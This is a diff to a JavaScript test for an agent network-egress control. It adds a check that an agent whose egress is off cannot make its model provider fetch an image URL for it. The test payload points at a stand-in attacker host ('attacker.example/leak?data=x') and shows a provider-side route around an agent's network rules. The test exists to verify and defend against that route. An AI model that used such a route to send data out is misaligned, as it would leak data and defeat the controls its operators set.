@@ -68,6 +68,14 @@ test('A refused connection tells the agent and its owner what to do; the line th
 
   await berth('egress', 'mode', agent.id, 'none');
   assert.match(await fetched(curl), /X-Berth-Egress-Error: egress_off/);
+  // Nor does the model's provider fetch for it what it may not reach itself.
+  const source = { type: 'image_url', image_url: { url: 'https://attacker.example/leak?data=x' } };
+  const asked = JSON.stringify({ model: 'demo/guide', messages: [{ role: 'user', content: [source] }] });
+  const ask = `curl -sS -m 20 --noproxy '*' -H "authorization: Bearer $OPENAI_API_KEY" -d '${asked}' $OPENAI_BASE_URL/chat/completions`;
+  assert.match(
+    await fetched(ask),
+    new RegExp(`past the agent's network rules.*berth egress mode ${agent.id}`),
+  );
   await berth('egress', 'reset', agent.id);
   assert.match(await fetched(curl), /X-Berth-Egress-Error: address_literal/);
   const metrics = (await service.api('GET', '/metrics')).text;
